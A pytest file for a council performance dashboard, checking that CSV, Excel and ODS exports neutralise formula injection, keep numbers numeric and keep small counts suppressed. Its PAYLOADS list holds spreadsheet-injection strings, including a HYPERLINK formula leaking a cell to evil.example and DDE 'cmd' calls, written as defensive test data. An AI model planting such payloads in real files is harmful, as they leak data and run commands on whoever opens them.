"""Export files: CSV and Excel are safe to open (formula injection neutralised, numbers still numbers,
suppressed counts stay suppressed, the context written above the table), and chart images really
contain their text (vl-convert draws none with an unknown font)."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest
from ods_files import typed_cells, xlsx_typed_cells

from harrow_dash.outputs.charts import FONT, action_bar, rag_bar
from harrow_dash.outputs.export_files import (
    ILLUSTRATIVE_NOTE,
    chart_png,
    chart_spec,
    chart_svg,
    compact_png,
    csv_bytes,
    ensure_chart_font,
    excel_bytes,
    export_context,
    export_frame,
    file_slug,
    ods_bytes,
    protect_suppressed,
    readable_headers,
    text_renders,
)
from harrow_dash.outputs.exports import analysable
from harrow_dash.outputs.views import indicators_at
from harrow_dash.rules.filters import Filters
from harrow_dash.rules.periods import parse_period
from harrow_dash.rules.scorecard import RuleSettings

Q3 = parse_period("Q3 2023-24")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def payload_table() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "Ref": [f"PI-{i:02d}" for i in range(n)],
            "Commentary": PAYLOADS,
            "Actual": [-1.5, 2.0, -3.0, 4.25, 0.0, 1_234_567.0],
            "Count": list(range(-2, n - 2)),
        }
    )


def sheet_rows(data: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in ws.iter_rows()]


def header_index(rows: list[list[openpyxl.cell.cell.Cell]], first: str) -> int:
    for i, row in enumerate(rows):
        if row and row[0].value == first:
            return i
    raise AssertionError(f"no header row starting {first!r}")


# -- CSV ------------------------------------------------------------------------------------------


def test_csv_neutralises_every_formula_payload_and_keeps_numbers() -> None:
    text = csv_bytes(payload_table()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["Commentary"] for r in rows] == ["'" + p for p in PAYLOADS]
    for r in rows:
        assert not r["Commentary"].startswith(("=", "+", "-", "@", "\t", "\r"))
    # Numbers are written as numbers (a negative number is a number, not a formula).
    assert [float(r["Actual"]) for r in rows] == [-1.5, 2.0, -3.0, 4.25, 0.0, 1_234_567.0]
    assert [int(r["Count"]) for r in rows] == list(range(-2, len(PAYLOADS) - 2))


def test_csv_neutralises_dangerous_headers_too() -> None:
    table = pd.DataFrame({"=cmd()": ["x"], "ok": [1]})
    header = csv_bytes(table).decode("utf-8-sig").splitlines()[0]
    assert header.startswith("'=cmd()")


# -- Excel ----------------------------------------------------------------------------------------


def test_excel_neutralises_text_and_keeps_numbers_numeric() -> None:
    context = export_context("Indicators", Filters(period=Q3))
    rows = sheet_rows(excel_bytes(payload_table(), context))
    h = header_index(rows, "Ref")
    data = rows[h + 1 :]
    assert len(data) == len(PAYLOADS)
    for row, payload in zip(data, PAYLOADS, strict=True):
        ref, commentary, actual, count = row
        assert commentary.data_type == "s"
        assert commentary.value == "'" + payload
        assert actual.data_type == "n" and isinstance(actual.value, int | float)
        assert count.data_type == "n" and isinstance(count.value, int)
    assert [r[2].value for r in data] == [-1.5, 2, -3, 4.25, 0, 1_234_567]
    # No cell anywhere in the sheet is a formula.
    assert all(c.data_type != "f" for row in rows for c in row)


def test_excel_writes_council_quarter_filters_and_note_above_the_table() -> None:
    filters = Filters(period=Q3, priorities=(2,), directorates=("Place",))
    names = {1: "A council that puts residents first", 2: "A borough that is clean and safe"}
    context = export_context("Indicators for priority 2", filters, names, illustrative=True)
    rows = sheet_rows(excel_bytes(payload_table(), context, sheet_title="Indicators"))
    top = [row[0].value for row in rows[: len(context)]]
    assert top[0] == "Harrow Council: Indicators for priority 2"
    assert "Quarter: Q3 2023-24 (as at 31 December 2023)" in top
    assert "Priority: A borough that is clean and safe" in top
    assert "Directorate: Place" in top
    assert ILLUSTRATIVE_NOTE in top
    assert any("fewer than 5" in str(t) for t in top)
    h = header_index(rows, "Ref")
    assert h == len(context) + 1  # one blank row between the context and the table
    assert all(c.value is None for c in rows[h - 1])
    ws = openpyxl.load_workbook(io.BytesIO(excel_bytes(payload_table(), context))).active
    assert ws.freeze_panes == f"A{h + 2}"
    assert ws.auto_filter.ref.startswith(f"A{h + 1}:")
    assert all(c.font.bold for c in rows[h])


def test_excel_without_sample_has_no_illustrative_note() -> None:
    context = export_context("Indicators", Filters(period=Q3))
    assert ILLUSTRATIVE_NOTE not in context
    assert "All priorities, directorates and portfolios" in context


def test_excel_drops_control_characters_instead_of_failing() -> None:
    table = pd.DataFrame({"Commentary": ["bell\x07 and null\x00 here", "=\x1bformula"]})
    rows = sheet_rows(excel_bytes(table, ["Harrow Council: test"]))
    h = header_index(rows, "Commentary")
    assert rows[h + 1][0].value == "bell and null here"
    assert rows[h + 2][0].value == "'=formula"


def test_excel_gives_readable_headers_and_unit_number_formats() -> None:
    table = pd.DataFrame(
        {
            "ref": ["PI-01", "PI-10", "PI-14"],
            "actual": [66.5, 4_100_000.0, 2105.0],
            "unit": ["%", "£", "count"],
            "travel_prev_text": ["\u25b2 improving", "\u25bc worsening", "\u2013 no comparison"],
        }
    )
    rows = sheet_rows(excel_bytes(table, ["Harrow Council: test"]))
    h = header_index(rows, "Ref")
    assert [c.value for c in rows[h]] == ["Ref", "Actual", "Unit", "Since last quarter"]
    formats = [rows[h + i][1].number_format for i in (1, 2, 3)]
    assert formats == ['0.0"%"', '"£"#,##0', "#,##0"]
    assert [rows[h + i][1].value for i in (1, 2, 3)] == [66.5, 4_100_000, 2105]


def test_page_downloads_carry_numbers_as_numbers_with_a_unit_column(sample_store) -> None:
    """ "236 seconds" and "72.4%" as text cannot be summed or charted: the downloads of a page's table
    have the stored numbers, a unit column, the reporting state, and Excel formats by unit."""
    inds = indicators_at(sample_store, Filters(period=Q3), RuleSettings())
    table = screen_table(inds)
    assert table.loc[table["Ref"] == "PI-02", "Actual"].item() == "72.4%"  # text on screen
    download = analysable(table, inds)
    assert list(download.columns)[:9] == [
        "Ref",
        "Indicator",
        "actual",
        "status",
        "target",
        "target_upper",
        "unit",
        "state",
        "RAG",
    ]  # fmt: skip (the sample has an indicator with a target band)

    rows = list(csv.DictReader(io.StringIO(csv_bytes(download).decode("utf-8-sig"))))
    assert list(rows[0])[:8] == [
        "Ref", "Indicator", "Actual", "Status", "Target", "Target (top of range)", "Unit",
        "Reporting state",
    ]  # fmt: skip
    by_ref = {r["Ref"]: r for r in rows}
    assert (by_ref["PI-02"]["Actual"], by_ref["PI-02"]["Target"], by_ref["PI-02"]["Unit"]) == (
        "72.4",
        "90.0",
        "%",
    )
    numeric = [r for r in rows if r["Actual"] != ""]
    assert len(numeric) > 30 and all(float(r["Actual"]) == float(r["Actual"]) for r in numeric)
    seconds = [r for r in rows if r["Unit"] == "seconds"]
    assert seconds and all(re.fullmatch(r"\d+(\.\d+)?", r["Actual"]) for r in seconds)
    for ref in inds.loc[inds["suppressed"].astype(bool), "ref"]:
        # still never the raw figure: a blank, and the status says why
        assert (by_ref[ref]["Actual"], by_ref[ref]["Status"]) == ("", "suppressed")
    unreported = inds[inds["actual"].isna()]
    for r in unreported.itertuples():
        assert by_ref[r.ref]["Actual"] == "" and by_ref[r.ref]["Reporting state"] == r.state

    sheet = sheet_rows(excel_bytes(download, ["Harrow Council: test"]))
    h = header_index(sheet, "Ref")
    xl = {r[0].value: r for r in sheet[h + 1 :]}
    assert xl["PI-02"][2].value == pytest.approx(72.4)
    assert xl["PI-02"][2].number_format == '0.0"%"'
    assert xl["PI-02"][4].number_format == '0.0"%"'  # the target too
    money = inds.loc[inds["unit"] == "£", "ref"]
    assert len(money), "the sample should have a money indicator"
    assert xl[money.iloc[0]][2].number_format == '"£"#,##0'
    assert all(xl[r][2].data_type == "n" for r in (n["Ref"] for n in numeric))


def test_trend_downloads_match_each_quarter_by_ref_and_quarter(sample_store) -> None:
    from harrow_dash.outputs.explore import trend_download
    from harrow_dash.outputs.views import indicator_histories

    hist = indicator_histories(sample_store, ["PI-02"], RuleSettings(), Q3)
    display = trend_download({"PI-02": hist}, {"PI-02": "FOI"})
    download = analysable(display, hist.assign(ref="PI-02"))
    row = download[download["Quarter"] == "Q3 2023-24"].iloc[0]
    assert (row["actual"], row["target"], row["unit"]) == (pytest.approx(72.4), 90.0, "%")
    assert "benchmark" in download.columns and "Benchmark" not in download.columns
    assert len(download) == len(display)


def test_readable_headers_are_unique() -> None:
    headers = readable_headers(["actual", "actual_text", "rag", "rag_text", "Trend", "my_col"])
    assert len(set(headers)) == len(headers)
    assert headers[0] == "Actual" and headers[2] == "RAG" and headers[-1] == "My col"


# -- suppression ----------------------------------------------------------------------------------


def screen_table(inds: pd.DataFrame) -> pd.DataFrame:
    """The indicator table as the Priorities page shows it."""
    return pd.DataFrame(
        {
            "Ref": inds["ref"],
            "Indicator": inds["name"],
            "Actual": inds["actual_text"],
            "Target": inds["target_text"],
            "RAG": inds["rag_text"],
            "Since last quarter": inds["travel_prev_text"],
        }
    )


def test_suppressed_counts_stay_suppressed_in_csv_and_excel(sample_store) -> None:
    inds = indicators_at(sample_store, Filters(period=Q3), RuleSettings())
    hidden = inds[inds["suppressed"].astype(bool)]
    assert set(hidden["ref"]) >= {"PI-37", "PI-41"}  # the sample's small counts of people
    table = screen_table(inds)

    csv_rows = list(csv.DictReader(io.StringIO(csv_bytes(table).decode("utf-8-sig"))))
    by_ref = {r["Ref"]: r for r in csv_rows}
    for ref in hidden["ref"]:
        assert by_ref[ref]["Actual"] == "fewer than 5"

    rows = sheet_rows(excel_bytes(table, export_context("Indicators", Filters(period=Q3))))
    h = header_index(rows, "Ref")
    xl = {r[0].value: r for r in rows[h + 1 :]}
    for r in hidden.itertuples():
        cell = xl[r.ref][2]
        assert cell.value == "fewer than 5"
        assert cell.value != r.actual


def test_a_raw_actual_with_its_suppressed_flag_is_hidden_anyway(sample_store) -> None:
    """Belt and braces: a page that passed raw columns still cannot leak a small count."""
    inds = indicators_at(sample_store, Filters(period=Q3), RuleSettings())
    raw = inds[["ref", "actual", "unit", "suppressed"]]
    for data in (csv_bytes(raw).decode("utf-8-sig"),):
        rows = {r["Ref"]: r for r in csv.DictReader(io.StringIO(data))}
        assert (rows["PI-37"]["Actual"], rows["PI-37"]["Status"]) == ("", "suppressed")
        assert (rows["PI-41"]["Actual"], rows["PI-41"]["Status"]) == ("", "suppressed")
        assert rows["PI-01"]["Actual"] != "" and rows["PI-01"]["Status"] == ""
    sheet = sheet_rows(excel_bytes(raw, ["Harrow Council: raw"]))
    h = header_index(sheet, "Ref")
    xl = {r[0].value: r for r in sheet[h + 1 :]}
    assert (xl["PI-37"][1].value, xl["PI-37"][2].value) == (None, "suppressed")
    assert xl["PI-01"][1].data_type == "n"
    protected = protect_suppressed(raw)
    assert protected.loc[raw["ref"] == "PI-41", "actual"].item() is None


def test_export_frame_turns_missing_values_into_empty_cells() -> None:
    frame = export_frame(pd.DataFrame({"a": [1.0, float("nan")], "b": ["x", None]}))
    assert frame.iloc[1].tolist() == [None, None]


# -- charts ---------------------------------------------------------------------------------------

COUNTS = {"Green": 24, "Amber": 6, "Red": 9, "Not rated": 6}


def svg_texts(svg: bytes) -> list[str]:
    return re.findall(r"<text[^>]*>([^<]*)</text>", svg.decode("utf-8"))


def test_chart_font_is_known_to_vl_convert() -> None:
    ensure_chart_font()
    assert text_renders(FONT)
    assert not text_renders("No Such Font Harrow")  # the failure the check exists for


def test_svg_contains_the_chart_text() -> None:
    svg = chart_svg(rag_bar(COUNTS, title="Performance indicators"))
    assert svg.startswith(b"<svg")
    texts = svg_texts(svg)
    assert "Performance indicators" in texts
    for n in ("24", "6", "9"):
        assert n in texts
    assert FONT in svg.decode("utf-8")


def test_png_really_draws_the_text() -> None:
    """vl-convert draws no text with a font it does not know, silently: compare with that."""
    chart = action_bar({"Complete": 7, "Green": 16, "Amber": 5, "Red": 3}, title="Actions")
    png = chart_png(chart, scale=1)
    assert png.startswith(b"\x89PNG")
    spec = chart_spec(chart)
    spec["config"]["font"] = "No Such Font Harrow"
    import vl_convert as vlc

    textless = bytes(vlc.vegalite_to_png(spec, scale=1))
    assert pixels(png) != pixels(textless)


def pixels(png: bytes) -> bytes:
    from PIL import Image

    return Image.open(io.BytesIO(png)).convert("RGB").tobytes()


def test_compact_png_keeps_every_pixel_and_is_smaller() -> None:
    import vl_convert as vlc

    raw = bytes(vlc.vegalite_to_png(chart_spec(rag_bar(COUNTS, title="PIs")), scale=2))
    small = compact_png(raw)
    assert pixels(small) == pixels(raw)
    assert len(small) < len(raw)


def timeline_statuses(n_actions: int, quarters: list[str]) -> pd.DataFrame:
    statuses = ["On track", "Minor slippage", "Off track", "Complete", "Not yet due"]
    rows = []
    for i in range(n_actions):
        for j, q in enumerate(quarters):
            rows.append(
                {
                    "ref": f"FA-{i + 1:02d}",
                    "title": f"Flagship action number {i + 1} with a long descriptive title",
                    "priority_id": 1 + i % 3,
                    "period": parse_period(q).key,
                    "status": statuses[(i + j) % len(statuses)],
                    "commentary": "",
                }
            )
    return pd.DataFrame(rows)


def test_the_timeline_image_is_sized_from_its_content_so_labels_do_not_overlap() -> None:
    """On screen the timeline fills its container; as an image it has none. It is sized from its
    labels and quarters: every quarter column is wide enough for "Minor slippage" in words, and its
    height grows with the rows, so the picture reads like the page (not a squashed 640 px)."""
    from PIL import Image

    from harrow_dash.outputs.charts import action_timeline

    three = ["Q1 2023-24", "Q2 2023-24", "Q3 2023-24"]
    statuses = timeline_statuses(37, three)
    png = chart_png(action_timeline(statuses), scale=1)
    image = Image.open(io.BytesIO(png))
    width, height = image.size
    svg = chart_svg(action_timeline(statuses)).decode("utf-8")
    # The quarters' headings are far enough apart not to overlap (a heading is ~80 px wide).
    xs = sorted(
        float(m)
        for q in three
        for m in re.findall(rf'transform="translate\(([\d.]+),-?[\d.]+\)"[^>]*>{q}</text>', svg)
    )
    assert len(xs) == 3
    assert min(b - a for a, b in zip(xs, xs[1:], strict=False)) >= 120
    assert width >= 440 + 3 * 120 and height >= 37 * 28
    assert len(png) < 400_000  # the sample's timeline was 1.45 MB before (at scale 2)
    # More quarters: short status words, narrower columns, still one column each.
    eight = [f"Q{q} {y}" for y in ("2022-23", "2023-24") for q in (1, 2, 3, 4)]
    wide = Image.open(io.BytesIO(chart_png(action_timeline(timeline_statuses(5, eight)), scale=1)))
    assert wide.size[0] >= 440 + 8 * 80


def test_container_width_is_replaced_for_rendering() -> None:
    spec = chart_spec(rag_bar(COUNTS), width=500)
    assert spec["width"] == 500


@pytest.mark.parametrize(
    ("text", "slug"), [("Q3 2023-24", "Q3_2023-24"), ("a/b\\c:d", "a_b_c_d"), ("", "export")]
)
def test_file_slug(text: str, slug: str) -> None:
    assert file_slug(text) == slug


def test_csv_quotes_line_breaks_inside_a_field() -> None:
    """A bare carriage return inside a field must not start a new row (whose first cell could then
    be a formula): the field is quoted and reads back as one value."""
    table = pd.DataFrame({"Commentary": ['fine\r=HYPERLINK("x")', "two\nlines"], "Count": [1, 2]})
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"), newline="")))
    assert rows == [
        ["Commentary", "Count"],
        ['fine\r=HYPERLINK("x")', "1"],
        ["two\nlines", "2"],
    ]


def test_the_ods_download_of_a_page_table_is_its_excel_download(sample_store) -> None:
    """The OpenDocument download holds the Excel download's cells, each of the same type: the stored
    numbers as numbers, suppressed counts as blanks with the status "suppressed", the context lines
    above the table."""
    inds = indicators_at(sample_store, Filters(period=Q3), RuleSettings())
    download = analysable(screen_table(inds), inds)
    context = export_context("Indicators", Filters(period=Q3))
    ods = typed_cells(ods_bytes(download, context, sheet_title="Indicators"))
    assert ods == xlsx_typed_cells(excel_bytes(download, context, sheet_title="Indicators"))
    rows = ods["Indicators"]
    h = next(i for i, r in enumerate(rows) if r and r[0] == ("string", "Ref"))
    by_ref = {r[0][1]: r for r in rows[h + 1 :]}
    assert by_ref["PI-02"][2] == ("float", pytest.approx(72.4))
    for ref in inds.loc[inds["suppressed"].astype(bool), "ref"]:
        assert by_ref[ref][3] == ("string", "suppressed")
        assert by_ref[ref][2] == ("", None)  # no number, and no words in the number's column
